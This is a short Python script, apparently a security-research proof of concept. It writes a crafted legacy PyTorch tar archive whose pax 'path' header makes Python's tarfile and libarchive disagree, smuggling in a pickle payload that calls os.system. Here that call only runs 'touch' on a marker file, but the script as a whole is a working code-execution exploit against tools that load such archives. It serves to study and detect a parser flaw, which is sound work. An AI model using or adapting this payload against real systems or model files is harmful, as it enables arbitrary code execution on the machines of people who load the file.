"""Legacy torch tar: a member whose pax 'path' is 'storages/' and whose type is '0' (regular).
Python's tarfile strips the trailing '/' (member 'storages', a regular file with its data); libarchive
treats a regular entry named '.../' as a directory with no data, and reads that data block as a header.
usage: python3 tar_pax_path_slash.py OUT MARKER"""
import sys

from tarblocks import header, pad, write_legacy_tar

PATH = b"storages/"

def pax_record(key, value):
    body = b" " + key + b"=" + value + b"\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n += 1
    return str(n).encode() + body

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    rec = pax_record(b"path", PATH)
    blocks = [header(b"PaxHeader/x", len(rec), b"x"), pad(rec),
              header(b"x", 512),
              header(payload, 0)]      # Python: the member's 512 data bytes; libarchive: a header
    write_legacy_tar(out, blocks)

if __name__ == "__main__":
    main(*sys.argv[1:])
